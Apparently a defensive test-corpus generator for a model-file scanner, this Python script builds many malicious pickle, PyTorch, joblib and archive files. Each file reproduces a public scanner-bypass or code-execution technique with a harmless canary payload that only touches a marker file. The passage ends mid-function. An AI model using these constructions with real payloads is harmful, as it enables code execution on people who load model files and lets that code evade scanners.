"""Generate the malicious model-file corpus used to test aiwarden's static scanner.

Every file reproduces one public bypass technique (or a close derivative) with a harmless canary
payload: if a loader ever executed it, the only effect would be creating a marker file named after
the case (``m01``, ``m02`` ...) inside the canary directory. Nothing here loads or executes the files.

Pickles are assembled opcode by opcode so each technique is exact; real libraries (joblib, numpy,
h5py, onnx, gguf, py7zr) are imported lazily only to build the containers they own. Output is
deterministic: fixed archive timestamps, sorted JSON keys, no randomness.

Usage: python scripts/corpus_malicious.py --out DIR [--canary CANARY_DIR]
"""

from __future__ import annotations

import argparse
import base64
import bz2
import codecs
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import re
import shlex
import struct
import sys
import tarfile
import tempfile
import types
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path
from typing import Any

DEFAULT_CANARY = "/tmp/aiwarden-canary"
ZIP_EPOCH = (1980, 1, 1, 0, 0, 0)
CRITICAL, HIGH, MEDIUM = "critical", "high", "medium"

# ---------------------------------------------------------------------------------------------
# Sources: the public advisory, issue or write-up behind each technique
# ---------------------------------------------------------------------------------------------

SRC_DERIVED = "derived"
SRC_GADGETS = (
    "picklescan GHSA-vvpj-8cmc-gx39, GHSA-7wx9-6375-f5wh, GHSA-g38g-8gr9-h9xp, GHSA-xp4f-hrf8-rxw7, "
    "GHSA-v7x6-rv5q-mhwc (PRs #50, #53, #54, #65)"
)
SRC_RESOLVER = "picklescan issue #66; modelscan issue #331"
SRC_LIB_GADGETS = "modelscan issue #338"
SRC_MEMO = "picklescan issues #14, #22; modelscan issue #85, PR #54"
SRC_COMPUTED = "GHSA-9gvj-pp9x-gcfr (picklescan PR #46)"
SRC_BUILD = "modelscan issues #330, #85"
SRC_DOTTED = "derived (protocol-4 dotted qualname); modelscan issues #330, #85"
SRC_NESTED = "modelscan issue #267"
SRC_MARSHAL = "picklescan denylist note on types.CodeType; derived"
SRC_CLOUD = "picklescan denylist (cloudpickle internals); derived"
SRC_EXTENSION = "GHSA-769v-p64c-89pr (modelscan issue #263); JFrog picklescan zero-days (fickling issue #190)"
SRC_CRC = "GHSA-7q5r-7gvp-wc82 (modelscan issue #263)"
SRC_FLAG = "GHSA-w8jq-xcqf-f792 (modelscan issue #263)"
SRC_CORRUPT = "modelscan issue #354 / PR #355"
SRC_NULLIFAI = "ReversingLabs nullifAI (Feb 2025)"
SRC_COMPRESSED = "derived (joblib/pandas decompress transparently)"
SRC_JOBLIB = "derived (joblib NumpyArrayWrapper records)"
SRC_POLYGLOT = "fickling polyglot module (PR #73)"
SRC_LEGACY = "picklescan torch.py (magic-number bypass)"
SRC_TAR = "CVE-2025-32434 / GHSA-53q9-r3pm-6pq6; picklescan 'TODO tar'"
SRC_WEIGHTS_ONLY = "CVE-2026-24747 (weights_only unpickler memory corruption)"
SRC_NUMPY = "numpy allow_pickle; picklescan/modelscan numpy paths"
SRC_HIDDEN = "modelaudit PRs #624, #953, #1043"
SRC_LAMBDA = "CVE-2024-3660"
SRC_KERAS_MODULE = "CVE-2025-1550 / GHSA-48g7-3x6r-xfhp (io-no/CVE-Reports #2)"
SRC_KERAS_GADGET = "CVE-2025-8747, CVE-2025-9906 (io-no/CVE-Reports #5)"
SRC_KERAS_H5 = "CVE-2025-9905 (io-no/CVE-Reports #7)"
SRC_GGUF = "CVE-2024-34359 (llama-cpp-python PR #1462)"
SRC_ONNX = "CVE-2022-25882, CVE-2024-27318 (onnx issue #3991, PR #5917)"
SRC_ONNX_WRITE = "CVE-2025-51480 (onnx PRs #6959, #7644, #7686); CVE-2026-27489, CVE-2026-34445"
SRC_SKOPS = "CVE-2025-54412, CVE-2025-54413 (io-no/CVE-Reports #3, #4)"
SRC_ARCHIVE = "CWE-22 archive path traversal (zip-slip, tar ../ and links)"
SRC_DOS = "derived (decompression bomb; safetensors format spec)"
SRC_EXPANSION = "fickling ExpansionAttack analysis; derived"
SRC_RT_NESTED = "aiwarden red team: nested loader fed a computed, converted or archive argument"
SRC_RT_APPLY = "aiwarden red team: allowlisted apply gadget handed a resolved callable"
SRC_RT_TYPE_HINTS = "aiwarden red team: typing.get_type_hints evaluates BUILD-set annotations"
SRC_RT_PARSER = "aiwarden red team: opcode parsing stricter than CPython stops the analysis early"
SRC_RT_JOBLIB = "aiwarden red team: joblib array bytes that pickle.load runs as opcodes"
SRC_RT_LZMA = "aiwarden red team: LZMA (method 14) zip members unreadable to the scanner"
SRC_RT_SSTI = "aiwarden red team: Jinja chat-template SSTI without dunder literals"


@dataclass(frozen=True)
class Marker:
    """Where a case's canary payload would write, expressed for each payload language."""

    path: str

    @property
    def shell(self) -> str:
        return f"touch {shlex.quote(self.path)}"

    @property
    def python(self) -> str:
        return f"open({self.path!r}, 'w').close()"


# ---------------------------------------------------------------------------------------------
# Pickle opcodes
# ---------------------------------------------------------------------------------------------

MARK, STOP, POP, TUPLE, REDUCE, BUILD = b"(", b".", b"0", b"t", b"R", b"b"
EMPTY_TUPLE, EMPTY_LIST, EMPTY_DICT = b")", b"]", b"}"
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"
APPENDS, SETITEM, SETITEMS, LIST = b"e", b"s", b"u", b"l"
OBJ, NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE = b"o", b"\x81", b"\x92", b"\x93", b"\x94"
BINPERSID, NONE, NEWTRUE, NEWFALSE = b"Q", b"N", b"\x88", b"\x89"


def op_proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def op_frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def framed(body: bytes, version: int = 4) -> bytes:
    """A protocol 4/5 pickle: PROTO, one FRAME holding ``body`` and the final STOP."""
    return op_proto(version) + op_frame(body + STOP)


def op_global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_inst(module: str, name: str) -> bytes:
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def op_unicode0(text: str) -> bytes:
    """Protocol-0 UNICODE argument, escaped the way pickle's own pure-Python writer does."""
    escaped = text.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
    escaped = escaped.replace("\r", "\\u000d").replace("\x1a", "\\u001a")
    return b"V" + escaped.encode("raw-unicode-escape") + b"\n"


def op_binunicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def op_str(text: str) -> bytes:
    """SHORT_BINUNICODE when it fits (protocol 4+), else BINUNICODE."""
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return op_binunicode(text)


def op_bytes(data: bytes) -> bytes:
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def op_int(value: int) -> bytes:
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if 0 <= value < 65536:
        return b"M" + struct.pack("<H", value)
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def op_binput(index: int) -> bytes:
    return b"q" + bytes([index])


def op_binget(index: int) -> bytes:
    return b"h" + bytes([index])


def stack_global(module: str, name: str) -> bytes:
    return op_str(module) + op_str(name) + STACK_GLOBAL


def mark_tuple(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` through MARK ... TUPLE REDUCE (valid in every protocol)."""
    return func + mark_tuple(*args) + REDUCE


def encode_value(value: object) -> bytes:
    """Binary (protocol 3+) opcodes that rebuild a plain value: None, bool, int, str, bytes, tuple, dict."""
    if value is None:
        return NONE
    if isinstance(value, bool):
        return NEWTRUE if value else NEWFALSE
    if isinstance(value, int):
        return op_int(value)
    if isinstance(value, str):
        return op_str(value)
    if isinstance(value, bytes):
        return op_bytes(value)
    if isinstance(value, tuple):
        return EMPTY_TUPLE if not value else mark_tuple(*(encode_value(item) for item in value))
    if isinstance(value, dict):
        pairs = b"".join(encode_value(k) + encode_value(v) for k, v in value.items())
        return EMPTY_DICT + (MARK + pairs + SETITEMS if pairs else b"")
    raise TypeError(f"cannot encode {type(value).__name__}")


def os_system_p2(marker: Marker) -> bytes:
    """``os.system(cmd)`` as GLOBAL + BINUNICODE + REDUCE (protocol 1/2 body, no PROTO)."""
    return call(op_global("os", "system"), op_binunicode(marker.shell))


def os_system_p4(marker: Marker) -> bytes:
    return stack_global("os", "system") + op_str(marker.shell) + TUPLE1 + REDUCE


def os_system_p0(marker: Marker) -> bytes:
    return op_global("os", "system") + MARK + op_unicode0(marker.shell) + TUPLE + REDUCE + STOP


def p2(body: bytes) -> bytes:
    return op_proto(2) + body + STOP


class ReduceTo:
    """Pickles as ``func(*args)``; used to let joblib/numpy write a payload they would really emit."""

    def __init__(self, func: Callable[..., object], args: tuple[object, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args


def function_code(marker: Marker) -> types.CodeType:
    """Code object of ``def canary(): open(marker, 'w').close()`` (compiled, never run)."""
    module = compile(f"def canary():\n    {marker.python}\n", "<canary>", "exec", dont_inherit=True)
    return next(c for c in module.co_consts if isinstance(c, types.CodeType))


def code_fields(code: types.CodeType, filename: str) -> tuple[object, ...]:
    """The 18 positional arguments of ``types.CodeType`` (CPython 3.11+ order)."""
    return (
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
        code.co_code,
        code.co_consts,
        code.co_names,
        code.co_varnames,
        filename,
        code.co_name,
        code.co_qualname,
        code.co_firstlineno,
        code.co_linetable,
        code.co_exceptiontable,
        code.co_freevars,
        code.co_cellvars,
    )


# ---------------------------------------------------------------------------------------------
# Containers
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ZipEntry:
    name: str
    data: bytes
    compress: int = zipfile.ZIP_STORED
    align: int = 0
    mode: int = 0o100644


def _padding_extra(offset: int, name: str, align: int) -> bytes:
    """An 'FB' extra field that puts the member's data on an ``align`` boundary (as torch.save does)."""
    if not align:
        return b""
    start = offset + 30 + len(name.encode()) + 4
    pad = (-start) % align
    return struct.pack("<HH", 0x4246, pad) + b"Z" * pad


def zip_archive(entries: Sequence[ZipEntry]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as archive:
        warnings.simplefilter("ignore", UserWarning)
        for entry in entries:
            info = zipfile.ZipInfo(entry.name, date_time=ZIP_EPOCH)
            info.compress_type = entry.compress
            info.create_system = 3
            info.external_attr = entry.mode << 16
            info.extra = _padding_extra(buf.tell(), entry.name, entry.align)
            archive.writestr(info, entry.data)
    return buf.getvalue()


def _central_directory(data: bytes) -> list[tuple[int, str, int]]:
    """(central header offset, member name, local header offset) for every central entry."""
    end = data.rindex(b"PK\x05\x06")
    count, _size, start = struct.unpack_from("<HII", data, end + 10)
    entries, pos = [], start
    for _ in range(count):
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        local = struct.unpack_from("<I", data, pos + 42)[0]
        entries.append((pos, data[pos + 46 : pos + 46 + name_len].decode(), local))
        pos += 46 + name_len + extra_len + comment_len
    return entries


def patch_zip_member(data: bytes, name: str, *, crc_xor: int = 0, flag_or: int = 0) -> bytes:
    """Corrupt a member's CRC and/or set general-purpose flag bits in both of its headers."""
    out = bytearray(data)
    for central, member, local in _central_directory(data):
        if member != name:
            continue
        for flags_at, crc_at in ((central + 8, central + 16), (local + 6, local + 14)):
            flags = struct.unpack_from("<H", out, flags_at)[0] | flag_or
            crc = struct.unpack_from("<I", out, crc_at)[0] ^ crc_xor
            struct.pack_into("<H", out, flags_at, flags)
            struct.pack_into("<I", out, crc_at, crc)
    return bytes(out)


def break_local_header(data: bytes, name: str) -> bytes:
    """Overwrite a member's local-header signature so readers fail on that entry."""
    out = bytearray(data)
    for _central, member, local in _central_directory(data):
        if member == name:
            out[local : local + 4] = b"PK\x00\x00"
    return bytes(out)


def tar_archive(members: Sequence[tarfile.TarInfo], contents: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info in members:
            info.mtime, info.uid, info.gid, info.uname, info.gname = 0, 0, 0, "", ""
            data = contents.get(info.name)
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def tar_file(name: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.mode = 0o644
    return info


def tar_link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, target, 0o777
    return info


def sevenzip_archive(members: Sequence[tuple[str, bytes]]) -> bytes:
    import py7zr
    from py7zr.helpers import ArchiveTimestamp

    epoch = ArchiveTimestamp.from_datetime(315532800.0)
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members:
            archive.writestr(data, name)
            info = archive.header.files_info.files[-1]
            for key in ("creationtime", "lastwritetime", "lastaccesstime"):
                info[key] = epoch
    return buf.getvalue()


def canonical_json(value: object) -> bytes:
    return json.dumps(value, sort_keys=True, indent=1).encode()


# ---------------------------------------------------------------------------------------------
# PyTorch layouts
# ---------------------------------------------------------------------------------------------

TENSOR_BYTES = struct.pack("<4f", 0.0, 1.0, 2.0, 3.0)
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_PROTOCOL = 1001
LEGACY_SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def tensor_ops(numel: int, *, legacy: bool = False) -> bytes:
    """``torch._utils._rebuild_tensor_v2`` of a float storage with persistent id key '0'.

    Legacy (non-zip) streams carry a sixth persistent-id field, the view metadata.
    """
    fields = [
        op_binunicode("storage"),
        op_global("torch", "FloatStorage"),
        op_binunicode("0"),
        op_binunicode("cpu"),
        op_int(numel),
    ]
    persid = mark_tuple(*fields, *([NONE] if legacy else [])) + BINPERSID
    return call(
        op_global("torch._utils", "_rebuild_tensor_v2"),
        persid,
        op_int(0),
        op_int(numel) + TUPLE1,
        op_int(1) + TUPLE1,
        NEWFALSE,
        call(op_global("collections", "OrderedDict")),
    )


def state_dict(*extra: bytes) -> bytes:
    """Protocol-2 ``{'w': tensor, ...extra key/value ops}`` as torch.save writes a state dict."""
    return p2(EMPTY_DICT + MARK + op_binunicode("w") + tensor_ops(4) + b"".join(extra) + SETITEMS)


def poisoned_state_dict(marker: Marker) -> bytes:
    return state_dict(op_binunicode("x"), os_system_p2(marker))


def torch_entries(data_pkl: bytes, storage: bytes = TENSOR_BYTES) -> list[ZipEntry]:
    return [
        ZipEntry("archive/data.pkl", data_pkl),
        ZipEntry("archive/.format_version", b"1"),
        ZipEntry("archive/.storage_alignment", b"64"),
        ZipEntry("archive/byteorder", b"little"),
        ZipEntry("archive/data/0", storage, align=64),
        ZipEntry("archive/version", b"3\n"),
        ZipEntry("archive/.data/serialization_id", b"0" * 40),
    ]


def torch_zip(data_pkl: bytes, storage: bytes = TENSOR_BYTES) -> bytes:
    return zip_archive(torch_entries(data_pkl, storage))


def legacy_prefix() -> bytes:
    return b"".join(pickle.dumps(v, protocol=2) for v in (LEGACY_MAGIC, LEGACY_PROTOCOL, LEGACY_SYS_INFO))


# ---------------------------------------------------------------------------------------------
# Cases: plain pickles, opcode and protocol variants
# ---------------------------------------------------------------------------------------------


def case_os_system(m: Marker) -> bytes:
    return p2(os_system_p2(m))


def case_posix_system_p3(m: Marker) -> bytes:
    return op_proto(3) + op_global("posix", "system") + op_binunicode(m.shell) + TUPLE1 + REDUCE + STOP


def case_proto0_os_system(m: Marker) -> bytes:
    return os_system_p0(m)


def case_proto1_popen(m: Marker) -> bytes:
    argv = EMPTY_LIST + MARK + op_binunicode("touch") + op_binunicode(m.path) + APPENDS
    return call(op_global("subprocess", "Popen"), argv) + STOP


def case_builtin_exec_p2(m: Marker) -> bytes:
    return p2(call(op_global("__builtin__", "exec"), op_binunicode(m.python)))


def case_builtins_eval_p4(m: Marker) -> bytes:
    return framed(stack_global("builtins", "eval") + MEMOIZE + op_str(m.python) + MEMOIZE + TUPLE1 + REDUCE)


def case_proto5_os_system(m: Marker) -> bytes:
    buffer = b"\x96" + struct.pack("<Q", 8) + b"\x00" * 8
    body = EMPTY_DICT + MEMOIZE + MARK + op_str("buf") + buffer + op_str("x") + os_system_p4(m) + SETITEMS
    return framed(body, version=5)


def case_inst(m: Marker) -> bytes:
    return MARK + op_unicode0(m.shell) + op_inst("os", "system") + STOP


def case_obj(m: Marker) -> bytes:
    return MARK + op_global("os", "system") + op_binunicode(m.shell) + OBJ + STOP


def case_newobj_partial(m: Marker) -> bytes:
    partial = op_global("functools", "partial") + op_global("os", "system") + op_binunicode(m.shell)
    return p2(partial + TUPLE2 + NEWOBJ + EMPTY_TUPLE + REDUCE)


def case_newobj_ex_partial(m: Marker) -> bytes:
    kwargs = EMPTY_DICT + op_str("command") + op_str(m.shell) + SETITEM
    partial = stack_global("functools", "partial") + stack_global("os", "system") + TUPLE1 + kwargs
    return framed(partial + NEWOBJ_EX + EMPTY_TUPLE + REDUCE)


# Stdlib / library gadgets missing from denylists


def case_timeit(m: Marker) -> bytes:
    args = (op_binunicode(m.python), op_binunicode("pass"), op_global("time", "perf_counter"), op_int(1))
    return p2(call(op_global("timeit", "timeit"), *args))


def case_cprofile_run(m: Marker) -> bytes:
    return p2(call(op_global("cProfile", "run"), op_binunicode(m.python)))


def case_profile_run(m: Marker) -> bytes:
    return p2(call(op_global("profile", "run"), op_binunicode(m.python)))


def case_pydoc_pipepager(m: Marker) -> bytes:
    return p2(call(op_global("pydoc", "pipepager"), op_binunicode(""), op_binunicode(m.shell)))


def case_uuid_command(m: Marker) -> bytes:
    return p2(call(op_global("uuid", "_get_command_stdout"), op_binunicode("touch"), op_binunicode(m.path)))


def case_osx_support(m: Marker) -> bytes:
    return p2(call(op_global("_osx_support", "_read_output"), op_binunicode(m.shell)))


def case_ensurepip(m: Marker) -> bytes:
    args = op_binunicode("[]; raise SystemExit")
    paths = op_binunicode(f"[{m.python}] and []")
    return p2(call(op_global("ensurepip", "_run_pip"), args, paths))


def case_pip_main(m: Marker) -> bytes:
    argv = ["--disable-pip-version-check", "--log", m.path, "list"]
    items = EMPTY_LIST + MARK + b"".join(op_binunicode(a) for a in argv) + APPENDS
    return p2(call(op_global("pip", "main"), items))


def case_pkgutil_resolve(m: Marker) -> bytes:
    resolved = call(op_global("pkgutil", "resolve_name"), op_binunicode("os:system"))
    return p2(call(resolved, op_binunicode(m.shell)))


def case_numpy_runstring(m: Marker) -> bytes:
    return p2(call(op_global("numpy.testing._private.utils", "runstring"), op_binunicode(m.python), EMPTY_DICT))


def case_torch_collect_env(m: Marker) -> bytes:
    return p2(call(op_global("torch.utils.collect_env", "run"), op_binunicode(m.shell)))


def case_spawnv_passfds(m: Marker) -> bytes:
    argv = EMPTY_LIST + MARK + op_binunicode("touch") + op_binunicode(m.path) + APPENDS
    spawn = op_global("multiprocessing.util", "spawnv_passfds")
    return p2(call(spawn, op_binunicode("/usr/bin/touch"), argv, EMPTY_TUPLE))


# Universal resolvers and attribute chains


def import_os() -> bytes:
    return call(op_global("importlib", "import_module"), op_binunicode("os"))


def case_importlib_getattr(m: Marker) -> bytes:
    system = call(op_global("builtins", "getattr"), import_os(), op_binunicode("system"))
    return p2(call(system, op_binunicode(m.shell)))


def case_importlib_methodcaller(m: Marker) -> bytes:
    caller = call(op_global("operator", "methodcaller"), op_binunicode("system"), op_binunicode(m.shell))
    return p2(call(caller, import_os()))


def case_importlib_attrgetter(m: Marker) -> bytes:
    getter = call(op_global("_operator", "attrgetter"), op_binunicode("system"))
    return p2(call(call(getter, import_os()), op_binunicode(m.shell)))


def case_dunder_import_getattr(m: Marker) -> bytes:
    module = call(op_global("builtins", "__import__"), op_binunicode("subprocess"))
    check_call = call(op_global("builtins", "getattr"), module, op_binunicode("check_call"))
    argv = EMPTY_LIST + MARK + op_binunicode("touch") + op_binunicode(m.path) + APPENDS
    return p2(call(check_call, argv))


# Memo and STACK_GLOBAL confusion


def case_memo_put_memoize_mix(m: Marker) -> bytes:
    body = (
        op_str("posix")
        + op_str("collections")
        + POP
        + MEMOIZE
        + POP
        + op_str("collections")
        + op_binput(5)
        + POP
        + op_str("OrderedDict")
        + MEMOIZE
        + POP
        + op_str("system")
        + MEMOIZE
        + POP
        + op_binget(0)
        + op_binget(3)
        + STACK_GLOBAL
        + op_str(m.shell)
        + TUPLE1
        + REDUCE
    )
    return framed(body)


def case_memo_overwrite_binget(m: Marker) -> bytes:
    body = (
        op_str("collections")
        + MEMOIZE
        + op_str("OrderedDict")
        + MEMOIZE
        + STACK_GLOBAL
        + MEMOIZE
        + EMPTY_TUPLE
        + REDUCE
        + POP
        + op_str("os")
        + op_binput(0)
        + POP
        + op_str("system")
        + op_binput(1)
        + POP
        + op_binget(0)
        + op_binget(1)
        + STACK_GLOBAL
        + op_str(m.shell)
        + TUPLE1
        + REDUCE
    )
    return framed(body)


def rot13_call(text: str) -> bytes:
    return op_binget(0) + op_str(codecs.encode(text, "rot13")) + op_str("rot13") + TUPLE2 + REDUCE


def case_stack_global_computed(m: Marker) -> bytes:
    body = (
        stack_global("codecs", "decode")
        + MEMOIZE
        + POP
        + rot13_call("os")
        + rot13_call("system")
        + STACK_GLOBAL
        + op_str(m.shell)
        + TUPLE1
        + REDUCE
    )
    return framed(body)


def case_dotted_torch_os(m: Marker) -> bytes:
    return framed(stack_global("torch", "os.system") + op_str(m.shell) + TUPLE1 + REDUCE)


def case_dotted_pathlib_touch(m: Marker) -> bytes:
    path = stack_global("pathlib", "Path") + op_str(m.path) + TUPLE1 + REDUCE
    return framed(stack_global("pathlib", "Path.touch") + path + TUPLE1 + REDUCE)


# File access through non-obvious stdlib callables


def case_io_open(m: Marker) -> bytes:
    return p2(call(op_global("_io", "open"), op_binunicode(m.path), op_binunicode("w")))


def case_sqlite3_connect(m: Marker) -> bytes:
    return p2(call(op_global("sqlite3", "connect"), op_binunicode(m.path)))


def case_zipfile_write(m: Marker) -> bytes:
    return p2(call(op_global("zipfile", "ZipFile"), op_binunicode(m.path), op_binunicode("w")))


def case_logging_filehandler(m: Marker) -> bytes:
    return p2(call(op_global("logging", "FileHandler"), op_binunicode(m.path)))


# BUILD on module objects


def case_build_module_dict(m: Marker) -> bytes:
    """Patch ``collections.OrderedDict`` through the module's ``__dict__``, call it, then restore it."""

    def patch(value: bytes) -> bytes:
        state = EMPTY_DICT + op_binunicode("OrderedDict") + value + SETITEM
        return op_global("typing", "collections") + state + BUILD + POP

    save = op_global("collections", "OrderedDict") + op_binput(0) + POP
    trigger = call(op_global("collections", "OrderedDict"), op_binunicode(m.shell))
    return p2(save + patch(op_global("os", "system")) + trigger + patch(op_binget(0)))


def case_build_slotstate_setattr(m: Marker) -> bytes:
    """Swap ``torch._utils._rebuild_tensor_v2`` for exec via slot-state setattr, call it, restore it."""

    def patch(value: bytes) -> bytes:
        slots = EMPTY_DICT + op_str("_rebuild_tensor_v2") + value + SETITEM
        return stack_global("torch", "_utils") + NONE + slots + TUPLE2 + BUILD + POP

    save = stack_global("torch._utils", "_rebuild_tensor_v2") + MEMOIZE + POP
    trigger = stack_global("torch._utils", "_rebuild_tensor_v2") + op_str(m.python) + TUPLE1 + REDUCE
    return framed(save + patch(stack_global("builtins", "exec")) + trigger + patch(op_binget(0)))


# Nested pickles and code objects


def case_nested_pickle(m: Marker) -> bytes:
    inner = p2(os_system_p2(m))
    return op_proto(3) + call(op_global("pickle", "loads"), op_bytes(inner)) + STOP


def case_nested_pickle_base64(m: Marker) -> bytes:
    inner = base64.b64encode(p2(os_system_p2(m))).decode()
    decoded = call(op_global("base64", "b64decode"), op_binunicode(inner))
    return p2(call(op_global("_pickle", "loads"), decoded))


def case_marshal_function(m: Marker) -> bytes:
    code = call(stack_global("marshal", "loads"), op_bytes(marshal.dumps(function_code(m))))
    function = call(stack_global("types", "FunctionType"), code, EMPTY_DICT)
    return framed(function + EMPTY_TUPLE + REDUCE)


def case_dill_function(m: Marker) -> bytes:
    fields = (b"", *code_fields(function_code(m), "<canary>"))
    code = call(stack_global("dill._dill", "_create_code"), *(encode_value(f) for f in fields))
    function = call(stack_global("dill._dill", "_create_function"), code, EMPTY_DICT, op_str("canary"))
    return framed(function + EMPTY_TUPLE + REDUCE)


def case_cloudpickle_function(m: Marker) -> bytes:
    code_type = call(stack_global("cloudpickle.cloudpickle", "_builtin_type"), op_str("CodeType"))
    fields = code_fields(function_code(m), "<dynamic-code>")
    code = call(code_type, *(encode_value(f) for f in fields))
    make = stack_global("cloudpickle.cloudpickle", "_make_function")
    function = call(make, code, EMPTY_DICT, op_str("canary"), NONE, NONE)
    return framed(function + EMPTY_TUPLE + REDUCE)


# Stream shape tricks


def case_broken_pickle(m: Marker) -> bytes:
    return op_proto(2) + os_system_p2(m) + b"\xfe\xff garbage after the payload"


def case_stacked_pickles(m: Marker) -> bytes:
    benign = pickle.dumps({"weights": [0.5, 1.5], "step": 3}, protocol=2)
    return benign + p2(os_system_p2(m))


def case_expansion_bomb(m: Marker) -> bytes:
    levels = [EMPTY_LIST + op_binput(0)]
    levels += [MARK + op_binget(i - 1) * 10 + LIST + op_binput(i) + POP for i in range(1, 40)]
    return p2(b"".join(levels) + POP + op_binget(39))


def case_no_extension(m: Marker) -> bytes:
    return p2(os_system_p2(m))


def case_pth_tar(m: Marker) -> bytes:
    return p2(os_system_p2(m))


def case_polyglot_pickle_zip(m: Marker) -> bytes:
    return p2(os_system_p2(m)) + torch_zip(state_dict())


# Compressed pickles


def case_gzip(m: Marker) -> bytes:
    return gzip.compress(p2(os_system_p2(m)), mtime=0)


def case_bz2(m: Marker) -> bytes:
    return bz2.compress(p2(os_system_p2(m)))


def case_xz(m: Marker) -> bytes:
    return lzma.compress(p2(os_system_p2(m)))


def case_zlib(m: Marker) -> bytes:
    return zlib.compress(p2(os_system_p2(m)), 9)


# joblib


def joblib_payload_dump(m: Marker, compress: object) -> bytes:
    import joblib
    import numpy as np

    state = {"weights": np.arange(64, dtype=np.float32), "zz_hook": ReduceTo(os.system, (m.shell,))}
    buf = io.BytesIO()
    joblib.dump(state, buf, compress=compress)
    return buf.getvalue()


def case_joblib_plain(m: Marker) -> bytes:
    return joblib_payload_dump(m, 0)


def case_joblib_zlib(m: Marker) -> bytes:
    return joblib_payload_dump(m, ("zlib", 3))


# PyTorch containers


def case_torch_zip(m: Marker) -> bytes:
    return torch_zip(poisoned_state_dict(m))


def case_torch_zip_bad_crc(m: Marker) -> bytes:
    return patch_zip_member(case_torch_zip(m), "archive/data.pkl", crc_xor=0xDEADBEEF)


def case_torch_zip_encrypted_flag(m: Marker) -> bytes:
    return patch_zip_member(case_torch_zip(m), "archive/data.pkl", flag_or=0x1)


def case_torch_zip_corrupt_first(m: Marker) -> bytes:
    corrupt = ZipEntry("archive/.data/aaa-corrupt", b"corrupt entry placed before data.pkl")
    archive = zip_archive([corrupt, *torch_entries(poisoned_state_dict(m))])
    return break_local_header(archive, corrupt.name)


def case_torch_zip_hidden_member(m: Marker) -> bytes:
    return zip_archive([*torch_entries(state_dict()), ZipEntry("archive/payload", os_system_p0(m))])


def case_torch_zip_duplicate(m: Marker) -> bytes:
    poisoned = ZipEntry("archive/data.pkl", poisoned_state_dict(m))
    return zip_archive([poisoned, *torch_entries(state_dict())])


def case_legacy_magic_payload(m: Marker) -> bytes:
    values: tuple[object, ...] = (LEGACY_PROTOCOL, LEGACY_SYS_INFO, {}, [])
    rest = b"".join(pickle.dumps(v, protocol=2) for v in values)
    return p2(os_system_p2(m)) + rest


def case_legacy_main_payload(m: Marker) -> bytes:
    main = p2(
        EMPTY_DICT
        + MARK
        + op_binunicode("w")
        + tensor_ops(4, legacy=True)
        + op_binunicode("x")
        + os_system_p2(m)
        + SETITEMS
    )
    storages = pickle.dumps(["0"], protocol=2) + struct.pack("<q", 4) + TENSOR_BYTES
    return legacy_prefix() + main + storages


def case_legacy_tar(m: Marker) -> bytes:
    contents = {
        "sys_info": pickle.dumps(LEGACY_SYS_INFO, protocol=2),
        "pickle": p2(os_system_p2(m)),
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    return tar_archive([tar_file(name) for name in contents], contents)


def case_torch_7z(m: Marker) -> bytes:
    return sevenzip_archive([(e.name, e.data) for e in torch_entries(poisoned_state_dict(m))])


def case_torchscript_code(m: Marker) -> bytes:
    code = (
        "class Model(Module):\n"
        "  __parameters__ = []\n"
        "  __buffers__ = []\n"
        "  training : bool\n"
        "  def forward(self: __torch__.Model,\n"
        "    x: Tensor) -> Tensor:\n"
        f'    _0 = __import__("os").system({m.shell!r})\n'
        f"    _1 = torch.ops.aten.save(x, {m.path!r})\n"
        "    return x\n"
    )
    data = p2(
        op_global("__torch__", "Model")
        + EMPTY_TUPLE
        + NEWOBJ
        + EMPTY_DICT
        + op_binunicode("training")
        + NEWTRUE
        + SETITEM
        + BUILD
    )
    return zip_archive(
        [
            ZipEntry("archive/data.pkl", data),
            ZipEntry("archive/code/__torch__.py", code.encode()),
            ZipEntry("archive/constants.pkl", p2(EMPTY_TUPLE)),
            ZipEntry("archive/version", b"6\n"),
        ]
    )


def case_setitem_on_list(m: Marker) -> bytes:
    data = p2(EMPTY_LIST + op_int(8) + tensor_ops(4) + SETITEM)
